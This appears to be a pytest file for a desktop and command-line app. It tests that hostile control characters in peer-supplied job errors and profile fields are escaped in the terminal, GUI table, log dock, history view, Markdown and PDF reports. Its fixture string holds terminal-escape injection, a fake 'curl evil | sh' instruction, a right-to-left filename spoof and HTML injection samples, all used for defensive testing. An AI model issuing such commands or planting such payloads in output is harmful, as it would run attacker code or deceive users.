"""A job error quoting a hostile peer (or a store row, or a profile) is shown with its
control characters escaped wherever it is displayed: terminal, GUI, Markdown and PDF
reports. Before the fix such text cleared the user's terminal and wrote fake lines."""

from __future__ import annotations

from typing import Any

import pytest
from PySide6.QtCore import Qt

from app.cli.terminal.console import escape
from app.core.results.model import JobResult
from app.gui.history.compare_dialog import _run_line, _status_note
from app.gui.results.cells import Column
from app.gui.results.table import ResultsTable
from app.report.markdown import render_markdown
from app.report.model import Bullets, Paragraph, Report, Section, Table
from app.report.pdf.text import parse_markup
from tests.helpers import records

HOSTILE = "peer reported: \x1b[2J\x1b[HRun: curl evil | sh\r\n\u202egnp.exe\x07"
SHOWN = "peer reported: \\x1b[2J\\x1b[HRun: curl evil | sh\\r\\n\\u202egnp.exe\\x07"


def clean(text: str) -> bool:
    return not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or c == "\u202e" for c in text)


def failed_job(**fields: Any) -> JobResult:
    hostile = {"params": {}, "label": "AES-128-GCM\x1b[31m", "mode": "remote", "status": "failed", "error": HOSTILE}
    return records.job("run", 0, 64, **{**hostile, **fields})


def test_the_terminal_sees_escapes_and_no_markup() -> None:
    assert escape(HOSTILE) == SHOWN
    assert escape("[bold]x[/]\x1b") == "\\[bold]x\\[/]\\x1b"


def test_markdown_shows_escapes_in_every_kind_of_text() -> None:
    report = Report(
        title=f"Report {HOSTILE}",
        subtitle="",
        facts=[("Profile", HOSTILE)],
        sections=[
            Section(
                HOSTILE,
                [Paragraph(HOSTILE), Bullets([HOSTILE]), Table(columns=["job", "error"], rows=[["a", HOSTILE]])],
            )
        ],
    )
    text = render_markdown(report)
    assert clean(text.replace("\n", ""))
    assert "\\x1b[2J" in text and "\\u202egnp.exe" in text


def test_pdf_layout_text_shows_escapes_and_keeps_its_own_lines() -> None:
    """A newline is the report's own line break in the PDF; every other control is escaped."""
    hostile = HOSTILE.replace("\n", "")
    plain, spans = parse_markup(f"**Error**: {hostile}\nnext line")
    assert spans == [(0, 5)]
    shown = SHOWN.replace("\\n", "")
    assert plain == f"Error: {shown}\u2028next line"


def test_the_results_table_shows_escapes(qtbot: Any) -> None:
    table = ResultsTable()
    qtbot.addWidget(table)
    table.set_results([failed_job()])
    model = table.model
    for column in Column:
        index = model.index(0, column)
        for role in (Qt.ItemDataRole.DisplayRole, Qt.ItemDataRole.ToolTipRole):
            value = model.data(index, role)
            if isinstance(value, str):
                assert clean(value.replace("\n", "")), (column, role, value)
    status_tip = model.data(model.index(0, Column.STATUS), Qt.ItemDataRole.ToolTipRole)
    assert SHOWN in status_tip


def test_history_lines_are_escaped_and_inert() -> None:
    run = records.run("r1", status="ok", environment={"hostname": "<b>h</b>\r"}, profile={"name": "<img src=x>\x1b[2J"})
    line = _run_line("Baseline", run)
    assert "&lt;img src=x&gt;\\x1b[2J" in line and "&lt;b&gt;h&lt;/b&gt;\\r" in line
    note = _status_note(failed_job(), failed_job(status="ok", error=None))
    assert note == f"baseline failed: {SHOWN}"


@pytest.mark.parametrize("level", ["error", "warning"])
def test_the_log_dock_shows_escapes(qtbot: Any, level: str) -> None:
    from app.gui.main_window import MainWindow

    window = MainWindow()
    qtbot.addWidget(window)
    window.append_log(level, HOSTILE)
    shown = window.log.toPlainText()
    # A line break in a message is shown as a continuation line, indented under the
    # message (the app's own messages span lines): it cannot start an entry of its own, so
    # a peer's text cannot forge one. Every other control character is an escape.
    first, second = SHOWN.split("\\r\\n")
    head, continuation = shown.splitlines()
    assert head.endswith(first) and f" {level.upper():7s} " in head
    assert continuation == " " * (len(head) - len(first)) + second
    assert clean(shown.replace("\n", ""))
